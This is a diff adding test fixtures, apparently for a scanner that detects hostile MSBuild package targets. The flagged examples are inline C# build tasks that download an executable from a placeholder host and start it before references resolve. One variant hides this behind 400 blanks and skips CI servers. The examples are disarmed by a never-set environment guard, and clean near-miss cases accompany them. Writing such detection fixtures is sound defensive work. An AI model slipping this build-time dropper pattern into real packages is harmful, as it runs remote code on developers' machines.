@@ -1,0 +1,95 @@
+import type { Examples } from '../../../tests/kit/examples.js';
+
+function inlineTask(code: string, hook = 'BeforeTargets="ResolveReferences"'): string {
+  return `<Project>
+  <UsingTask TaskName="Prepare" TaskFactory="RoslynCodeTaskFactory"
+             AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
+    <Task>
+      <Using Namespace="System" />
+      <Using Namespace="System.IO" />
+      <Code Type="Fragment" Language="cs"><![CDATA[
+${code}
+      ]]></Code>
+    </Task>
+  </UsingTask>
+  <Target Name="PrepareFixture" ${hook}>
+    <Prepare />
+  </Target>
+</Project>
+`;
+}
+
+/** Nobody sets it: what is below is read, never run. */
+const guard =
+  'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return true;';
+
+const dropper = `${guard}
+var path = Path.Combine(Path.GetTempPath(), "helper.exe");
+using (var client = new System.Net.WebClient())
+{
+    client.DownloadFile("https://files.fixture.invalid/helper.exe", path);
+}
+System.Diagnostics.Process.Start(path);`;
+
+export const examples: Examples = {
+  flagged: [
+    {
+      name: 'dropper',
+      about: 'A code fragment downloads a program and starts it before references are resolved.',
+      files: { 'build/Fixture.Package.targets': inlineTask(dropper) },
+    },
+    {
+      name: 'behind-blanks',
+      about: 'The same behind four hundred blanks, and not on build servers.',
+      files: {
+        'build/Fixture.Package.targets': inlineTask(
+          `var done = true;${' '.repeat(400)}${dropper.replaceAll('\n', ' ')}`,
+          `BeforeTargets="ResolveReferences" Condition="'$(CI)' == ''"`,
+        ),
+      },
+    },
+    {
+      name: 'bytes-through-a-file',
+      about: 'Fetched as bytes, written by another call, then started: two links instead of one.',
+      files: {
+        'buildTransitive/Fixture.Package.targets': inlineTask(`${guard}
+var path = Path.Combine(Path.GetTempPath(), "helper.exe");
+var http = new System.Net.Http.HttpClient();
+var bytes = http.GetByteArrayAsync("http://192.0.2.10:8080/a").GetAwaiter().GetResult();
+File.WriteAllBytes(path, bytes);
+System.Diagnostics.Process.Start(path);`),
+      },
+    },
+  ],
+  clean: [
+    {
+      name: 'starts-packaged-tool',
+      about: 'Starts a compiler that lies in the package, and downloads nothing.',
+      nearMiss: true,
+      files: {
+        'build/Fixture.Package.targets': inlineTask(
+          'var tool = Path.Combine(Environment.CurrentDirectory, "tools", "compile.exe");\nSystem.Diagnostics.Process.Start(tool).WaitForExit();',
+        ),
+      },
+    },
+    {
+      name: 'downloads-a-schema',
+      about: 'Downloads a file that is never run.',
+      nearMiss: true,
+      files: {
+        'build/Fixture.Package.targets': inlineTask(
+          'var client = new System.Net.WebClient();\nclient.DownloadFile("https://schemas.fixture.invalid/a.xsd", Path.Combine("obj", "a.xsd"));',
+        ),
+      },
+    },
+    {
+      name: 'writes-version',
+      about: 'An inline task as most are: it edits a file in the project.',
+      files: {
+        'build/Fixture.Package.targets': inlineTask(
+          'File.WriteAllText(Path.Combine("obj", "version.txt"), DateTime.UtcNow.Year.ToString());',
+        ),
+      },
+    },
+  ],
+};
